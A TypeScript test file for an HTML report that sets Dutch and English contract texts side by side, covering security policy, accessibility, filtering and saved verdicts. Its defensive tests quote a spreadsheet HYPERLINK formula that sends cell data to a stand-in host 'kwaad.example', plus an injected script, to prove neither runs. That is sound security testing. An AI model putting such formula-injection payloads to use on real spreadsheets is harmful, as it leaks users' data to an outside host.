import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { html } from '../../src/report/html.ts';
import { where } from '../../src/report/where.ts';
import { HOME } from '../texts.ts';
import { browserPath, faultsByAxe, opened, start } from './browser.ts';
import { corpusReviewed, hostileReport, hostileTexts, OPTIONS, textsReviewed } from './reports.ts';

const corpusPage = (): Promise<string> => html(corpusReviewed().report, [corpusReviewed().sheet], OPTIONS);

/** A document pair that holds hostile words everywhere, and a report whose every field does. */
async function hostilePages(): Promise<readonly string[]> {
  const { nl, en } = hostileTexts();
  const { report, sheet } = textsReviewed(nl, en);
  return [await html(report, [sheet], OPTIONS), await html(hostileReport(), [], OPTIONS)];
}

const tags = (page: string): readonly string[] =>
  page.replace(/<(style|script)>[\s\S]*?<\/\1>/g, '<$1>').match(/<[a-z][^>]*>/g) ?? [];

describe('the page by itself', () => {
  test('asks for nothing, and lets nothing but its own style and script act', async () => {
    const page = await corpusPage();
    for (const tag of tags(page)) {
      expect(tag).not.toMatch(/\s(?:on\w+|style|src|srcset)=/);
      for (const [, target] of tag.matchAll(/href="([^"]*)"/g)) expect(target).toMatch(/^#/);
    }
    const [, policy] = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page) ?? [];
    expect(policy?.replaceAll('&#x27;', "'")).toMatch(
      /^default-src 'none'; style-src 'sha256-[\w+/=]+'; script-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'$/,
    );
    expect(page.indexOf('Content-Security-Policy')).toBeLessThan(page.indexOf('<style>'));
  });

  test('every link leads to something, and no name is given twice', async () => {
    const page = (await corpusPage()).replace(/<script>[\s\S]*?<\/script>/, '');
    const names = [...page.matchAll(/\sid="([^"]*)"/g)].map(([, name]) => name);
    expect(names.length).toBe(new Set(names).size);
    const targets = [...page.matchAll(/(?:href="#|aria-describedby="|aria-labelledby=")([^"]*)"/g)].map(
      ([, name]) => name,
    );
    expect(targets.filter((name) => !names.includes(name))).toEqual([]);
  });

  test('names no folder of the machine that made it', async () => {
    const { report, sheet } = corpusReviewed();
    expect(report.documents[0]?.nl.path).toContain('/');
    expect(await html(report, [sheet], OPTIONS)).not.toContain(HOME);
  });

  test('is in Dutch for a Dutch reader', async () => {
    const page = await html({ ...corpusReviewed().report, locale: 'nl' }, [corpusReviewed().sheet], OPTIONS);
    expect(page).toContain('<html lang="nl">');
    expect(page).toContain('Nederlands en Engels naast elkaar');
    expect(page).toContain('Zoek het bedrag op in de tekst die voorgaat');
  });

  test('hostile words make no tag', async () => {
    for (const page of await hostilePages()) {
      expect(page.match(/<script\b/g)).toHaveLength(1);
      expect(page.match(/<\/script\b/g)).toHaveLength(1);
      expect(tags(page).filter((tag) => /^<(?:img|iframe|object|svg)\b|\son\w+=/.test(tag))).toEqual([]);
      expect(/[^\P{Cc}\n]|\p{Bidi_Control}/u.test(page)).toBe(false);
      expect(page.includes('⟨U+202E⟩')).toBe(true);
    }
  });
});

if (browserPath === null)
  console.warn('The page is not tested in a browser: no Chromium was found (CHROMIUM may name one).');

describe.skipIf(browserPath === null)('the page in a browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await start();
  });
  afterAll(() => browser?.close());

  test('it shows all findings, asks the network for nothing and complains of nothing', async () => {
    const { report, sheet } = corpusReviewed();
    await opened(browser, await corpusPage(), async ({ page, requests, complaints }) => {
      const total = report.findings.length;
      expect(await page.locator('.finding').count()).toBe(total);
      expect(await page.locator('#shown').textContent()).toBe(`${total} of ${total} findings, 0 judged`);
      expect(await page.locator('.row').count()).toBe(sheet.rows.length);
      expect(requests.filter((url) => !url.startsWith('file:'))).toEqual([]);
      expect(requests).toHaveLength(1);
      expect(complaints).toEqual([]);
    });
  });

  test('the words that differ are marked on both sides and lead to their finding', async () => {
    await opened(browser, await corpusPage(), async ({ page }) => {
      const [nl, en] = [
        page.locator('.cell[lang=nl] a.mark', { hasText: '€ 25.000,-' }),
        page.locator('.cell[lang=en] a.mark', { hasText: 'EUR 2,500' }),
      ];
      expect(await nl.getAttribute('href')).toBe(await en.getAttribute('href'));
      await en.click();
      expect(await page.locator('.finding[aria-current]').textContent()).toContain(
        'Dutch "€ 25.000,-", English "EUR 2,500".',
      );
    });
  });

  test('findings are narrowed down by text, severity and check, and counted aloud', async () => {
    const { report } = corpusReviewed();
    const total = report.findings.length;
    const count = (of: (one: (typeof report.findings)[number]) => boolean) =>
      `${report.findings.filter(of).length} of ${total} findings, 0 judged`;
    await opened(browser, await corpusPage(), async ({ page }) => {
      const shown = page.locator('#shown');
      expect(await shown.getAttribute('aria-live')).toBe('polite');
      await page.fill('#text', 'eur 2,500');
      expect(await shown.textContent()).toBe(`1 of ${total} findings, 0 judged`);
      expect(await page.locator('.finding:visible').count()).toBe(1);
      // the clause, and the headings above it
      expect(await page.locator('.row:visible').count()).toBe(3);
      await page.press('#text', 'Escape');
      expect(await page.locator('.finding:visible').count()).toBe(total);
      await page.uncheck('input[value=error]');
      expect(await shown.textContent()).toBe(count(({ severity }) => severity !== 'error'));
      await page.check('input[value=error]');
      await page.selectOption('#check', 'amounts');
      expect(await shown.textContent()).toBe(count(({ check }) => check === 'amounts'));
      expect(await page.locator('a.mark:not(.off)').count()).toBeLessThan(20);
      await page.check('#only');
      expect(await page.locator('.row.paragraph:visible').count()).toBe(
        new Set(report.findings.filter(({ check }) => check === 'amounts').map(({ clause }) => clause.nl)).size,
      );
    });
  });

  test('the keys j, k and / walk the findings and find the search field', async () => {
    await opened(browser, await corpusPage(), async ({ page }) => {
      const focused = () => page.evaluate('document.activeElement.id');
      for (const [key, id] of [
        ['j', 'f1'],
        ['j', 'f2'],
        ['j', 'f3'],
        ['k', 'f2'],
        ['/', 'text'],
      ] as const) {
        await page.keyboard.press(key);
        expect(await focused(), `after ${key}`).toBe(id);
      }
      await page.keyboard.type('jk/');
      expect(await page.inputValue('#text')).toBe('jk/');
      expect(await page.locator('.finding[aria-current]').count()).toBe(1);
    });
  });

  test('a verdict is kept, saved to a file and loaded again', async () => {
    const { report } = corpusReviewed();
    const total = report.findings.length;
    const [first] = report.findings;
    await opened(browser, await corpusPage(), async ({ page, complaints }) => {
      const shown = page.locator('#shown');
      await page.keyboard.press('j');
      await page.keyboard.press('2');
      await page.keyboard.press('c');
      await page.keyboard.type('Zo bedoeld.');
      expect(await shown.textContent()).toBe(`${total} of ${total} findings, 1 judged`);
      await page.check('#unjudged');
      expect(await shown.textContent()).toBe(`${total - 1} of ${total} findings, 1 judged`);
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#save')]);
      expect(download.suggestedFilename()).toBe('tweeluik-verdicts.json');
      const file = await download.path();
      const { verdicts } = JSON.parse(readFileSync(file, 'utf8'));
      expect(verdicts).toEqual([
        {
          document: 'nl.txt and en.txt',
          clause: first ? where(first) : '',
          check: first?.check,
          message: first?.message,
          fingerprint: first?.fingerprint,
          verdict: 'right as it is',
          comment: 'Zo bedoeld.',
        },
      ]);
      await page.evaluate('localStorage.clear()');
      await page.reload();
      expect(await shown.textContent()).toBe(`${total} of ${total} findings, 0 judged`);
      await page.setInputFiles('#load', { name: 'v.json', mimeType: 'application/json', buffer: readFileSync(file) });
      await page.waitForFunction('document.querySelectorAll(".finding[data-verdict]").length === 1');
      await page.reload();
      expect(await shown.textContent(), 'kept in the browser').toBe(`${total} of ${total} findings, 1 judged`);
      expect(complaints).toEqual([]);
    });
  });

  test('a count of the overview shows the findings it counts', async () => {
    const { report } = corpusReviewed();
    const amounts = report.findings.filter(({ check, severity }) => check === 'amounts' && severity === 'error');
    await opened(browser, await corpusPage(), async ({ page }) => {
      await page.click('.overview summary');
      await page.click('.pick[data-check=amounts][data-severity=error] button');
      expect(await page.locator('.finding:visible').count()).toBe(amounts.length);
    });
  });

  test('on paper the findings are listed first, and clauses without any are left out', async () => {
    const { report } = corpusReviewed();
    await opened(browser, await corpusPage(), async ({ page }) => {
      await page.evaluate('dispatchEvent(new Event("beforeprint"))');
      await page.emulateMedia({ media: 'print' });
      expect(await page.locator('.listing li').count()).toBe(report.findings.length);
      expect(await page.locator('.row.quiet:visible').count()).toBe(0);
      expect(await page.locator('.judging:visible').count()).toBe(0);
      await page.evaluate('dispatchEvent(new Event("afterprint"))');
      expect(await page.locator('.listing').count()).toBe(0);
    });
  });

  test('a screen reader finds its landmarks, headings, table and names', async () => {
    await opened(browser, await corpusPage(), async ({ page }) => {
      for (const role of ['banner', 'search', 'main', 'contentinfo'] as const)
        expect(await page.getByRole(role).count(), role).toBe(1);
      expect(await page.getByRole('heading', { level: 1 }).count()).toBe(1);
      expect(await page.getByRole('heading', { level: 4, name: 'Artikel 4. Uitvoering en medewerking' }).count()).toBe(
        1,
      );
      expect(await page.getByRole('table', { name: 'Both texts, clause by clause' }).count()).toBe(1);
      expect(await page.getByRole('columnheader').allTextContents()).toEqual(['Nederlands', 'English']);
      expect(await page.getByRole('article', { name: /error 4\.8/ }).count()).toBe(1);
      expect(await page.getByLabel('Text', { exact: true }).getAttribute('id')).toBe('text');
      await page.keyboard.press('Tab');
      expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the texts');
      expect(
        await page.evaluate('[document.documentElement.lang, ...document.querySelectorAll(".cell[lang]")].length'),
      ).toBeGreaterThan(100);
    });
  });

  test('axe finds nothing, in light and dark, wide and narrow, in both languages', async () => {
    const dutch = await html({ ...corpusReviewed().report, locale: 'nl' }, [corpusReviewed().sheet], OPTIONS);
    for (const text of [await corpusPage(), dutch])
      await opened(browser, text, async ({ page }) => {
        for (const colorScheme of ['light', 'dark'] as const) {
          await page.emulateMedia({ colorScheme });
          expect(await faultsByAxe(page), colorScheme).toEqual([]);
        }
        await page.setViewportSize({ width: 400, height: 800 });
        expect(await faultsByAxe(page), 'narrow').toEqual([]);
      });
  }, 120_000);

  test('it is dark where the reader likes it dark, and prints without what cannot be clicked', async () => {
    await opened(browser, await corpusPage(), async ({ page }) => {
      const paper = () => page.evaluate<string>('getComputedStyle(document.body).backgroundColor');
      await page.emulateMedia({ colorScheme: 'light' });
      expect(await paper()).toBe('rgb(255, 255, 255)');
      await page.emulateMedia({ colorScheme: 'dark' });
      expect(await paper()).toBe('rgb(22, 24, 28)');
      await page.emulateMedia({ colorScheme: 'dark', media: 'print' });
      expect(await paper()).toBe('rgb(255, 255, 255)');
      expect(await page.locator('.filters').isVisible()).toBe(false);
    });
  });

  test('without its script it is whole', async () => {
    const { report } = corpusReviewed();
    const work = async ({ page }: { page: import('playwright-core').Page }) => {
      expect(await page.locator('.finding:visible').count()).toBe(report.findings.length);
      expect(await page.locator('.filters').isVisible()).toBe(false);
    };
    await opened(browser, await corpusPage(), work, { javaScriptEnabled: false });
  });

  test('nothing of a hostile document runs, loads or is hidden', async () => {
    for (const hostile of await hostilePages())
      await opened(browser, hostile, async ({ page, requests, complaints }) => {
        expect(await page.evaluate('window.hit')).toBeUndefined();
        expect(await page.locator('script').count()).toBe(1);
        expect(await page.locator('main img').count()).toBe(0);
        const said = (await page.locator('main').textContent()) ?? '';
        expect(said.includes('=HYPERLINK("http://kwaad.example/?x="&A1;"klik hier")')).toBe(true);
        expect(said.includes('window.hit = 1')).toBe(true);
        expect(requests).toHaveLength(1);
        expect(complaints).toEqual([]);
        // and if something did get in, the policy stops it
        await page.evaluate(
          'document.body.append(Object.assign(document.createElement("script"), { textContent: "window.hit = 1" }))',
        );
        expect(await page.evaluate('window.hit')).toBeUndefined();
      });
  });
});
